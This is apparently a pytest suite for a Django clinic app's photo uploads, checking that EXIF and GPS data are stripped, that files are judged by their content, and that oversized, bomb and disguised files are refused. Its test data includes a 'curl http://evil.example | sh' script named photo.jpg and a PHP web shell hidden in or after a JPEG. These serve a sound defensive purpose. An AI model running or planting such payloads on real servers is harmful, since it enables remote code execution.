"""Uploading a session photo: what a file is, is decided by its content; what is stored is a clean, upright JPEG
under a random name in private storage; hostile files get a plain message and leave nothing behind."""

from __future__ import annotations

import io
import re
from datetime import timedelta
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse
from PIL import Image, PngImagePlugin
from pillow_heif import register_heif_opener

from booking.models import AppointmentStatus
from charting import photos
from charting.models import Photo
from clinic.audit.models import AuditEvent
from clinic.core.models import ClinicSettings
from tests.charting.photos_support import (  # noqa: F401 (fixtures)
    NOW,
    clinic_fixture,
    frozen_fixture,
    image_bytes,
    photo_dir_fixture,
    png_bomb,
    stored_files,
    take,
    upload,
)
from tests.factories import AppointmentFactory, PractitionerFactory

register_heif_opener()

GPS_IFD, MAKE, MODEL, ORIENTATION = 0x8825, 0x010F, 0x0110, 0x0112


def _jpeg_with_gps_and_rotation() -> bytes:
    """A phone photo held sideways: 800 wide x 600 high as stored, EXIF says turn it (orientation 6), and it
    carries where and with what it was taken."""
    image = Image.new("RGB", (800, 600), (200, 150, 120))
    exif = image.getexif()
    exif[MAKE], exif[MODEL], exif[ORIENTATION] = "Apple", "iPhone 15 Pro", 6
    gps = exif.get_ifd(GPS_IFD)
    gps.update({1: "N", 2: (51.0, 32.0, 10.5), 3: "W", 4: (0.0, 7.0, 40.2)})
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif.tobytes(), comment=b"Chloe Martin, 12 Willow Walk")
    return out.getvalue()


def _stored(photo: Photo, location: Path) -> Image.Image:
    return Image.open(location / photo.file_name)


def test_a_jpeg_with_gps_is_stored_upright_without_any_metadata(clinic):
    original = _jpeg_with_gps_and_rotation()
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(GPS_IFD)  # the test file does carry GPS

    photo = take(clinic["session"], clinic["ana"], data=original)

    stored = _stored(photo, clinic["dir"])
    assert stored.format == "JPEG" and stored.size == (600, 800) == (photo.width, photo.height)  # turned upright
    assert len(stored.getexif()) == 0 and "exif" not in stored.info
    raw = (clinic["dir"] / photo.file_name).read_bytes()
    for trace in (b"Exif", b"iPhone", b"Apple", b"Chloe", b"Willow"):
        assert trace not in raw
    thumb = Image.open(clinic["dir"] / photo.thumb_name)
    assert max(thumb.size) <= photos.THUMB_LONG_SIDE and len(thumb.getexif()) == 0


def test_a_png_with_a_text_chunk_keeps_only_its_pixels(clinic):
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "client Chloe Martin, home address")
    data = image_bytes("PNG", pnginfo=info)

    photo = take(clinic["session"], clinic["ana"], data=data)

    raw = (clinic["dir"] / photo.file_name).read_bytes()
    assert b"Chloe" not in raw and b"address" not in raw
    stored = _stored(photo, clinic["dir"])
    assert stored.format == "JPEG" and set(stored.info) <= {"jfif", "jfif_version", "jfif_unit", "jfif_density",
                                                            "dpi", "progressive", "progression"}
    assert stored.getpixel((10, 10))[2] > 150  # the blue corner is still top-left: the picture itself survived


def test_an_iphone_heic_photo_is_accepted(clinic):
    data = image_bytes("HEIF", quality=80)
    assert data[4:12] in (b"ftypheic", b"ftypmif1", b"ftypheix")  # really a HEIF container

    photo = take(clinic["session"], clinic["ana"], data=data, pose="left")

    assert _stored(photo, clinic["dir"]).format == "JPEG" and photo.pose == "left"


@pytest.mark.parametrize(("data", "name", "message"), [
    (b"#!/bin/sh\ncurl http://evil.example | sh\n", "photo.jpg", "not a photo the clinic can use"),
    (b"%PDF-1.4\n" + b"0" * 4000, "face.png", "not a photo the clinic can use"),
    (b"GIF89a" + b"\x00" * 600, "face.jpg", "not a photo the clinic can use"),
], ids=["shell-script-named-jpg", "pdf-named-png", "gif"])
def test_a_file_that_is_not_an_accepted_image_is_refused_by_its_content(clinic, data, name, message):
    with pytest.raises(photos.PhotoError, match=message):
        photos.photo_upload(appointment=clinic["session"], actor=clinic["ana"], pose="front", upload=upload(data, name))
    assert Photo.objects.count() == 0 and stored_files(clinic["dir"]) == []


def test_a_20_mb_file_is_refused_before_it_is_opened(clinic):
    data = image_bytes() + b"\x00" * (20 * 1024 * 1024)
    with pytest.raises(photos.PhotoError, match="at most 15 MB"):
        take(clinic["session"], clinic["ana"], data=data)
    assert Photo.objects.count() == 0 and stored_files(clinic["dir"]) == []


def test_a_10000_pixel_image_is_refused(clinic):
    out = io.BytesIO()
    Image.new("1", (10000, 10000)).save(out, "PNG")  # small on disk, 100 megapixels decoded
    with pytest.raises(photos.PhotoError, match="too large: at most 8000 pixels"):
        take(clinic["session"], clinic["ana"], data=out.getvalue())
    assert Photo.objects.count() == 0


def test_a_decompression_bomb_is_refused_without_decoding_it(clinic):
    with pytest.raises(photos.PhotoError, match="too large"):
        take(clinic["session"], clinic["ana"], data=png_bomb())
    assert Photo.objects.count() == 0 and stored_files(clinic["dir"]) == []


def test_a_tiny_image_is_refused(clinic):
    with pytest.raises(photos.PhotoError, match=r"too small \(120 x 90 pixels\)"):
        take(clinic["session"], clinic["ana"], data=image_bytes(size=(120, 90)))


def test_stored_names_are_random_and_say_nothing_about_the_client(clinic):
    first = take(clinic["session"], clinic["ana"], pose="front")
    second = take(clinic["session"], clinic["ana"], pose="left")

    names = [first.file_name, first.thumb_name, second.file_name, second.thumb_name]
    assert len(set(names)) == 4
    for name in names:
        folder, stem = name.split("/")[0], Path(name).stem
        assert folder in ("photos", "thumbs") and name.endswith(".jpg")
        assert re.fullmatch(r"[A-Za-z0-9_-]{32}", stem)  # 24 random bytes, nothing else
        assert "chloe" not in stem.lower() and "front" not in stem.lower() and "2026" not in stem
    assert stored_files(clinic["dir"]) == sorted(names)


def test_the_photo_store_is_not_under_any_public_folder_and_has_no_url():
    location = Path(settings.STORAGES["photos"]["OPTIONS"]["location"]).resolve()
    public = [Path(settings.STATIC_ROOT), *map(Path, settings.STATICFILES_DIRS)]
    if settings.MEDIA_ROOT:
        public.append(Path(settings.MEDIA_ROOT))
    for folder in public:
        assert not location.is_relative_to(folder.resolve())
    assert settings.STORAGES["photos"]["BACKEND"] == "charting.photos.PrivatePhotoStorage"
    with pytest.raises(NotImplementedError):
        photos.photo_storage().url("photos/x.jpg")


def test_the_stored_file_cannot_be_fetched_by_any_path_but_the_view(clinic, login):
    photo = take(clinic["session"], clinic["ana"])
    client = login(clinic["ana"])
    for path in (f"/{photo.file_name}", f"/media/{photo.file_name}", f"/static/{photo.file_name}",
                 f"/private-media/{photo.file_name}", f"/var/private-media/{photo.file_name}"):
        assert client.get(path).status_code == 404, path
    assert client.get(reverse("charting:photo_file", args=[photo.pk])).status_code == 200


def test_a_retake_replaces_the_earlier_photo_of_the_pose(clinic, django_capture_on_commit_callbacks):
    first = take(clinic["session"], clinic["ana"], pose="front")
    with django_capture_on_commit_callbacks(execute=True):
        second = take(clinic["session"], clinic["ana"], pose="front")

    assert list(Photo.objects.values_list("pk", flat=True)) == [second.pk]
    assert stored_files(clinic["dir"]) == sorted([second.file_name, second.thumb_name])
    assert first.file_name != second.file_name


def test_close_ups_are_as_many_as_needed_and_need_a_label(clinic):
    take(clinic["session"], clinic["ana"], pose="close_up", label="forehead lines")
    take(clinic["session"], clinic["ana"], pose="close_up", label="nasolabial folds")
    assert Photo.objects.filter(pose="close_up").count() == 2
    with pytest.raises(photos.PhotoError, match="which area"):
        take(clinic["session"], clinic["ana"], pose="close_up", label="  ")


def test_only_the_practitioner_of_the_session_takes_its_photos(clinic):
    ClinicSettings.objects.filter(pk=1).update(clinical_access="whole_clinic")  # Ben may read Chloe's record
    ben = PractitionerFactory().user
    with pytest.raises(photos.PhotoError, match="Only the practitioner who gives this session"):
        take(clinic["session"], ben)
    assert Photo.objects.count() == 0


def test_no_photo_long_before_the_session_or_for_one_that_did_not_happen(clinic):
    tomorrow = AppointmentFactory(client=clinic["chloe"], practitioner=clinic["session"].practitioner,
                                  starts_at=NOW + timedelta(days=1))
    with pytest.raises(photos.PhotoError, match="from 60 minutes before the session"):
        take(tomorrow, clinic["ana"])
    ben = PractitionerFactory()  # Ana's own diary is full until 11:35
    soon = AppointmentFactory(client=clinic["chloe"], practitioner=ben, starts_at=NOW + timedelta(minutes=45))
    assert take(soon, ben.user).appointment == soon  # the "before" photo, on arrival
    missed = AppointmentFactory(client=clinic["chloe"], practitioner=clinic["session"].practitioner,
                                starts_at=NOW - timedelta(days=7), status=AppointmentStatus.NO_SHOW)
    with pytest.raises(photos.PhotoError, match="no-show"):
        take(missed, clinic["ana"])


# -- the session page ---------------------------------------------------------------------------------------

def test_the_practitioner_uploads_from_the_session_page(clinic, login):
    url = reverse("charting:session_photos", args=[clinic["session"].pk])
    client = login(clinic["ana"])
    page = client.get(url)
    assert page.status_code == 200
    html = page.content.decode()
    assert 'accept="image/*" capture="user"' in html and html.count('type="file"') == 4
    assert "charting/photos.js" in html and "<script>" not in html and " onclick=" not in html

    response = client.post(url, {"pose": "right", "image": upload(image_bytes(), "IMG_0001.HEIC")})

    assert response.status_code == 302
    photo = Photo.objects.get()
    assert photo.pose == "right" and photo.taken_by == clinic["ana"]
    assert AuditEvent.objects.filter(action="photo.upload", object_id=str(photo.pk),
                                     subject=clinic["chloe"]).count() == 1
    assert reverse("charting:photo_thumb", args=[photo.pk]) in client.get(url).content.decode()


def test_a_hostile_file_on_the_page_gets_a_plain_message_and_keeps_the_label(clinic, login):
    url = reverse("charting:session_photos", args=[clinic["session"].pk])
    response = login(clinic["ana"]).post(url, {
        "pose": "close_up", "label": "forehead lines",
        "image": upload(b"<?php system($_GET['c']); ?>", "shell.jpg")})

    assert response.status_code == 400
    html = response.content.decode()
    assert "not a photo the clinic can use" in html and 'value="forehead lines"' in html
    assert Photo.objects.count() == 0 and stored_files(clinic["dir"]) == []


def test_the_treatment_note_and_my_day_link_to_the_photos(clinic, login):
    client = login(clinic["ana"])
    url = reverse("charting:session_photos", args=[clinic["session"].pk])
    note = client.get(reverse("intake:treatment_note", args=[clinic["session"].pk]))
    assert url in note.content.decode()
    day = client.get(reverse("intake:practitioner_day"), {"date": "2026-12-07"})
    assert url in day.content.decode()


def test_a_script_hidden_after_a_real_jpeg_is_not_stored(clinic):
    payload = b"<?php system($_GET['c']); ?>"
    photo = take(clinic["session"], clinic["ana"], data=image_bytes() + payload)
    assert payload not in (clinic["dir"] / photo.file_name).read_bytes()


def test_a_forged_pose_is_a_message_not_a_500(clinic, login):
    url = reverse("charting:session_photos", args=[clinic["session"].pk])
    response = login(clinic["ana"]).post(url, {"pose": "\x00back", "image": upload(image_bytes())})
    assert response.status_code == 400 and "Please choose a pose" in response.content.decode()
    assert Photo.objects.count() == 0


def test_control_characters_in_a_label_are_dropped(clinic):
    photo = take(clinic["session"], clinic["ana"], pose="close_up", label="chin\x00 line\x07")
    assert photo.label == "chin line"
